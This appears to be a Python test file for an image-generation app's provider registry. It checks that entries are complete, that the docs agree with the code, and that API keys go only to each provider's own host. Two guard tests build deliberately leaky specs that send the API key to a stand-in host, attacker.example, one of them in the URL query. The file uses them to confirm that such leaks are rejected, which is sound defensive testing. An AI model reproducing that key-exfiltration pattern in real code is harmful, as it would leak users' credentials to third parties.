"""The provider registry: every entry complete, and every list derived from it in agreement with code and docs."""

from __future__ import annotations

import typing
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from imagegen.errors import ValidationFailed
from imagegen.keys.formats import check_key_format
from imagegen.media.fetch import FetchPolicy
from imagegen.models import ImageRequest, ProviderName, VideoProviderName, VideoRequest
from imagegen.providers import (
    DEFAULT_VIDEO_CHAIN,
    DEPLOYMENT_KEY_NAMES,
    IMAGE_PROVIDERS,
    KEY_PROVIDERS,
    KEYED_SERVICES,
    KEYLESS_PROVIDERS,
    PROVIDER_NAMES,
    REGISTRY,
    RESULT_HOSTS,
    VIDEO_PROVIDER_NAMES,
)
from imagegen.providers.base import RemoteRequest
from imagegen.providers.settings import ProviderSettings, ProvidersSettings, ServiceSettings
from imagegen.providers.spec import ProviderSpec
from pydantic import SecretStr

ROOT = Path(__file__).resolve().parents[2]
PROBE_KEY = "probeKEY0123456789abcdef"


def _hosts(settings: ServiceSettings) -> set[str]:
    """Every host the provider's settings name (base URL, Hub, keyed gateway, ...)."""
    urls = [value for value in settings.model_dump().values() if isinstance(value, str) and "://" in value]
    return {urlsplit(url).netloc for url in urls}


def _key_only_in_header(request: Any, header: str) -> bool:
    in_header = PROBE_KEY in request.headers.get(header, "")
    others = [value for name, value in request.headers.items() if name.lower() != header.lower()]
    return in_header and PROBE_KEY not in str(request.url) + request.content.decode() + "".join(others)


def _image_problems(spec: ProviderSpec[Any]) -> list[str]:
    problems = []
    if not issubclass(spec.settings, ProviderSettings):
        problems.append("an image provider's settings must extend ProviderSettings (models, timeouts)")
    if spec.capabilities is None or spec.plan is None:
        problems.append("an image provider needs capabilities and plan")
    if spec.offline:
        if spec.render is None or spec.key is not None or not spec.keyless:
            problems.append("an offline provider renders, takes no key and is keyless")
    elif spec.build_request is None or spec.parse_response is None:
        problems.append("a provider that calls an API needs build_request and parse_response")
    elif not spec.result_hosts:
        problems.append("a provider that calls an API names the hosts its results come from (result_hosts)")
    if spec.async_ is not None and (spec.async_.min_check_delay_s < 1 or spec.async_.max_queue_s <= 0):
        problems.append("an async provider needs a check schedule: min_check_delay_s >= 1, max_queue_s > 0")
    if spec.key is None and not spec.keyless:
        problems.append("a provider without a key spec must work keyless")
    return problems


def _key_problems(spec: ProviderSpec[Any]) -> list[str]:
    key = spec.key
    if key is None:
        return []
    problems = []
    if spec.env.get("api_key") != key.env:
        problems.append(f"the key variable {key.env} must fill the settings' api_key")
    if not (key.pattern and key.expected and key.header):
        problems.append("a key spec needs a format (pattern + what is expected) and the header it is sent in")
    settings = spec.settings()
    check = key.check.build(settings, SecretStr(PROBE_KEY))
    if check.url.netloc.decode() not in _hosts(settings) or not _key_only_in_header(check, key.header):
        problems.append(f"the key check must send the key in {key.header} to the provider's own host only")
    if spec.generates_images and not spec.offline and spec.plan and spec.build_request:
        keyed = settings.with_key(SecretStr(PROBE_KEY))
        sent = spec.build_request(spec.plan(ImageRequest(prompt="probe"), None, keyed), keyed)
        if sent.url.netloc.decode() != keyed.api_host or not _key_only_in_header(sent, key.header):
            problems.append(f"generation must send the key in {key.header} to the API host only")
    return problems + _video_key_problems(spec, key.header)


def _video_key_problems(spec: ProviderSpec[Any], header: str) -> list[str]:
    """A provider's video calls (submit, check) send its key in its header to its API host, and nowhere else."""
    video = spec.video
    if video is None:
        return []
    keyed = spec.settings().with_key(SecretStr(PROBE_KEY))
    portable = VideoRequest(prompt="probe").portable()
    submit = video.build_request(video.plan(portable, None, keyed), keyed)
    check = video.async_.build_check(RemoteRequest("probe-id"), keyed)
    if any(
        sent.url.netloc.decode() != keyed.api_host or not _key_only_in_header(sent, header) for sent in (submit, check)
    ):
        return [f"video calls must send the key in {header} to the API host only"]
    if video.async_.min_check_delay_s < 1 or video.async_.max_queue_s <= 0:
        return ["a video queue needs a check schedule: min_check_delay_s >= 1, max_queue_s > 0"]
    return []


def spec_problems(name: str, spec: ProviderSpec[Any]) -> list[str]:
    """What is missing or inconsistent in one registry entry (empty: complete)."""
    problems = [] if spec.name == name else [f"registered as {name} but named {spec.name}"]
    prefix = f"{spec.env_prefix}_"
    problems += [
        f"{variable} does not start with {prefix}" for variable in spec.env.values() if not variable.startswith(prefix)
    ]
    problems += [
        f"{field} is no field of {spec.settings.__name__}"
        for field in spec.env
        if field not in spec.settings.model_fields
    ]
    try:
        spec.settings()
    except ValueError:
        problems.append(f"{spec.settings.__name__} needs defaults for every field (base URL included)")
        return problems
    if spec.generates_images:
        problems += _image_problems(spec)
    elif spec.key is None:
        problems.append("a keyed service (generates_images=False) needs a key spec")
    return problems + _key_problems(spec)


def registry_problems(registry: Mapping[str, ProviderSpec[Any]], docs: Mapping[str, str]) -> list[str]:
    """Derived lists and docs that disagree with the registry (empty: all agree)."""
    problems = [f"{name}: {problem}" for name, spec in registry.items() for problem in spec_problems(name, spec)]
    everywhere = "\n".join(docs.values())
    for name, spec in registry.items():
        if spec.generates_images and f"`{name}`" not in docs["docs/providers.md"]:
            problems.append(f"docs/providers.md does not mention {name}")
        if spec.key is not None and spec.key.env not in docs["docs/keys-and-health.md"]:
            problems.append(f"docs/keys-and-health.md does not list {spec.key.env} among the deployment keys")
        problems += [
            f"{variable} is documented nowhere" for variable in spec.env.values() if variable not in everywhere
        ]
    return problems


def _docs() -> dict[str, str]:
    paths = [ROOT / "README.md", *sorted((ROOT / "docs").glob("*.md"))]
    return {str(path.relative_to(ROOT)): path.read_text() for path in paths}


class TestRegistry:
    def test_given_the_registry_when_checked_then_every_entry_is_complete_and_every_doc_agrees(self) -> None:
        assert registry_problems(REGISTRY, _docs()) == []

    def test_given_the_registry_lines_when_the_specs_load_then_each_module_declares_the_spec_its_line_names(
        self,
    ) -> None:
        assert tuple(REGISTRY) == (*IMAGE_PROVIDERS, *KEYED_SERVICES)
        assert [name for name, spec in REGISTRY.items() if spec.generates_images] == list(IMAGE_PROVIDERS)

    def test_given_the_registry_when_names_are_derived_then_models_schema_and_key_lists_agree(self) -> None:
        image = tuple(name for name, spec in REGISTRY.items() if spec.generates_images)
        schema = ImageRequest.model_json_schema()["properties"]["providers"]["anyOf"][0]["items"]["enum"]
        assert typing.get_args(ProviderName) == PROVIDER_NAMES == image == tuple(schema)
        assert tuple(name for name, spec in REGISTRY.items() if spec.key is not None) == KEY_PROVIDERS
        assert {name: spec.key.env for name, spec in REGISTRY.items() if spec.key} == DEPLOYMENT_KEY_NAMES
        assert {name for name, spec in REGISTRY.items() if spec.keyless} == KEYLESS_PROVIDERS
        assert set(ProvidersSettings.defaults().providers) == set(REGISTRY)

    def test_given_the_registry_when_video_names_are_derived_then_the_written_list_schema_and_specs_agree(self) -> None:
        video = tuple(name for name, spec in REGISTRY.items() if spec.video is not None)
        items = VideoRequest.model_json_schema()["properties"]["providers"]["anyOf"][0]["items"]
        schema = tuple(items["enum"]) if "enum" in items else (items["const"],)
        assert video and typing.get_args(VideoProviderName) == VIDEO_PROVIDER_NAMES == video == DEFAULT_VIDEO_CHAIN
        assert schema == video

    def test_given_the_result_hosts_when_the_fetcher_is_built_then_each_is_on_its_default_allowlist(self) -> None:
        allowed = FetchPolicy().allowed_host_suffixes
        assert RESULT_HOSTS and [host for host in RESULT_HOSTS if host.lstrip(".") not in allowed] == []
        assert not any(host.endswith("amazonaws.com") for host in allowed)

    @pytest.mark.parametrize("name", KEY_PROVIDERS)
    def test_given_a_key_the_provider_would_refuse_when_stored_then_its_own_format_rejects_it(self, name: str) -> None:
        # Given the registry's format for this provider, When a key of the wrong shape is put, Then 422 names it.
        with pytest.raises(ValidationFailed, match="api_key: expected"):
            check_key_format(name, "x")


class TestTheGuard:
    """The checks above would catch a provider that is registered by half."""

    def _half_registered(self) -> ProviderSpec[Any]:
        class AcmeSettings(ProviderSettings):
            base_url: str = "https://api.acme.example"

        # A new provider whose module declares settings and a key variable, but no plan, request, parser or hosts.
        return ProviderSpec(name="acme", env_prefix="ACME", settings=AcmeSettings, env={"api_key": "ACME_KEY"})

    def test_given_a_half_registered_provider_when_checked_then_each_missing_piece_is_named(self) -> None:
        problems = spec_problems("acme", self._half_registered())

        assert problems == [
            "an image provider needs capabilities and plan",
            "a provider that calls an API needs build_request and parse_response",
            "a provider without a key spec must work keyless",
        ]

    def test_given_a_half_registered_provider_in_the_registry_then_docs_and_lists_disagree(self) -> None:
        registry = {**REGISTRY, "acme": self._half_registered()}

        problems = registry_problems(registry, _docs())

        assert "docs/providers.md does not mention acme" in problems
        assert "ACME_KEY is documented nowhere" in problems
        assert "acme: an image provider needs capabilities and plan" in problems

    def test_given_a_key_check_sent_elsewhere_when_checked_then_it_is_refused(self) -> None:
        from dataclasses import replace

        from imagegen.providers import siliconflow
        from imagegen.providers.base import request

        assert siliconflow.SPEC.key is not None
        leaky = replace(
            siliconflow.SPEC.key,
            check=replace(
                siliconflow.SPEC.key.check,
                build=lambda settings, key: request("GET", f"https://attacker.example/?k={key.get_secret_value()}"),
            ),
        )

        problems = spec_problems("siliconflow", replace(siliconflow.SPEC, key=leaky))

        assert problems == ["the key check must send the key in authorization to the provider's own host only"]

    def test_given_a_video_submit_sent_elsewhere_when_checked_then_it_is_refused(self) -> None:
        from dataclasses import replace

        from imagegen.providers import siliconflow
        from imagegen.providers.base import bearer, request

        assert siliconflow.SPEC.video is not None
        leaky = replace(
            siliconflow.SPEC.video,
            build_request=lambda plan, settings: request(
                "POST", "https://attacker.example/video/submit", headers=bearer(settings.api_key)
            ),
        )

        problems = spec_problems("siliconflow", replace(siliconflow.SPEC, video=leaky))

        assert problems == ["video calls must send the key in authorization to the API host only"]
